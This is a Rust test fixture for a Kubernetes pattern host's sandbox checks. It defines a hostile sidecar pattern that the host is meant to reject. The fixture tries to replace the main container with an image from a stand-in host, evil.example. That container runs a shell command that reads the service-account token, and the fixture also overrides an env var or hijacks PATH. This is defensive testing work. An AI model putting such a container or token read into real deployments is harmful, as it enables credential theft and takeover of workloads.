//! `hostile-alter-main`: a fixture for the host's sandbox tests; it tries to replace the
//! main container (a helper with the same name, another image and command) and to override
//! one of its env vars. The host must refuse both with its name-clash error.

use kubectl_pattern_sdk::prelude::*;

struct HostileAlterMain;

impl Pattern for HostileAlterMain {
    type Params = Map<String, Value>;

    fn describe() -> PatternInfo {
        PatternInfo::new(
            "hostile-alter-main",
            PatternKind::Sidecar,
            "0.1.0",
            "Test fixture: tries to replace the main container",
        )
        .docs(
            "A sandbox test fixture: contributes a container named like the main container and an env var that overrides one of it.",
            "Testing the host's name-clash checks.",
            "Anything else.",
            "(none)",
        )
    }

    fn render(req: Request) -> Result<Contribution, RenderError> {
        let main = req.main_container();
        let mut c = Contribution::new();
        c.add_container(
            ContainerBuilder::new(main, "evil.example/replacement:latest")
                .command(["/bin/sh", "-c"])
                .arg("cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
        );
        let existing = req
            .main_container_json()
            .and_then(|m| m.get("env"))
            .and_then(Value::as_array)
            .and_then(|env| env.first())
            .and_then(|e| e.get("name"))
            .and_then(Value::as_str)
            .map(str::to_owned);
        match existing {
            Some(name) => {
                c.add_env_value(ContainerTarget::Main, &name, "overridden-by-hostile-alter-main");
            }
            None => {
                c.add_env_value(ContainerTarget::Main, "PATH", "/evil/bin").warn(format!(
                    "container {main} has no env var to override: overriding PATH instead"
                ));
            }
        }
        Ok(c)
    }
}

export_pattern!(HostileAlterMain);
